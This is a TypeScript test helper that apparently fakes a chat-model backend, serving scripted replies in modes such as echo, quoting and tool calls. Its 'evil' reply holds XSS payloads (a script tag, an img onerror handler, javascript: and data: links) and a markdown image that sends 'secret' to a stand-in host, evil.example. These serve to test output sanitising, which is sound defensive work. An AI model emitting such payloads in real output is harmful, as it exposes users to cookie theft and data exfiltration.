import { type Schema, sampleOf } from "#/api/rest/sample.ts";
import type { FakeMode } from "./modes.ts";

export type ChatMessage = { role: string; content: string | { type: string; text?: string }[] | null };
export type ChatBody = {
  model: string;
  stream?: boolean;
  stream_options?: { include_usage?: boolean };
  response_format?: { type: string; json_schema?: { schema?: Schema } };
  messages: ChatMessage[];
  tools?: unknown[];
  tool_choice?: unknown;
  [more: string]: unknown;
};

/** What the model does in one call. */
export type Turn = { text?: string; calls?: { name: string; input: unknown }[]; thought?: string };

const foreignId = "0197a3f0-5c1e-7c3a-9d55-0d6f1e2b3c4d";

export const sayings = {
  plain:
    "Practice that costs effort lasts longer [1]. Space your reviews, and mix the kinds of problems that you solve.",
  evil: [
    "False number [9] and “words that nobody wrote” [1].",
    "![pixel](https://evil.example/p.png?q=secret)",
    '[click me](javascript:alert(document.cookie)) <script>alert(1)</script> <img src=x onerror="alert(1)">',
    "[data](data:text/html,hi) but a true mark [1].",
  ].join("\n\n"),
  evilIds: `Marks [${foreignId}], [999], [0], [-1] and [1e3] point nowhere, [1] does.`,
};

export const textOf = ({ content }: ChatMessage): string =>
  typeof content === "string" ? content : (content ?? []).map(({ text }) => text ?? "").join("");

const sentenceOf = (passage: string): string => {
  const [, body = passage] = /\n([\s\S]+)/.exec(passage) ?? [];
  const [sentence = body] = body.match(/^[\s\S]*?[.!?](?=\s|$)/) ?? [];
  return sentence.replace(/\s+/g, " ").trim().slice(0, 300);
};

/** Sentences of the first two passages that stand in the prompt as `[n] heading`, with their marks. */
const quotesFrom = (prompt: string): string => {
  const passages = [...prompt.matchAll(/^\[(\d+)\] ([\s\S]*?)(?=\n\n\[\d+\] |\n<\/passages>|$(?![\s\S]))/gm)];
  const quotes = passages.slice(0, 2).map(([, n, passage = ""]) => {
    const sentence = sentenceOf(passage);
    return sentence.replace(/([.!?]?)$/, ` [${n}]$1`);
  });
  return quotes.join("\n\n") || sayings.plain.replace(" [1]", "");
};

const sampleFor = ({ response_format: format }: ChatBody): string | null => {
  if (format === undefined || format.type === "text") return null;
  return JSON.stringify(sampleOf(format.json_schema?.schema ?? { type: "object" }, () => ({})));
};

/** Scripted turns come in order, by how many answers of tools have come back already. */
export const turnFor = (mode: FakeMode, body: ChatBody, turns: readonly Turn[], served: number): Turn => {
  if (mode === "echo")
    return { text: body.messages.map((message) => `${message.role}: ${textOf(message)}`).join("\n") };
  if (mode === "evil") return { text: sayings.evil };
  if (mode === "evil-ids") return { text: sayings.evilIds };
  if (mode === "empty") return { text: "" };
  if (mode === "quoting") return { text: sampleFor(body) ?? quotesFrom(body.messages.map(textOf).join("\n\n")) };
  const answeredTools = body.messages.filter(({ role }) => role === "tool").length;
  if (mode === "old-tools" && body.tools && answeredTools === 0) {
    return { calls: [{ name: "search_course", input: { query: "memory" } }] };
  }
  const done = mode === "in-turn" ? served : answeredTools;
  const turn = turns[Math.min(done, turns.length - 1)] ?? { text: sayings.plain };
  if (mode === "thinks") return { ...turn, thought: "The learner asks about practice. I should not give the answer." };
  if (mode === "fenced-json")
    return { ...turn, text: `Here you are:\n\n\`\`\`json\n${turn.text ?? ""}\n\`\`\`\nAnything else?` };
  return turn;
};
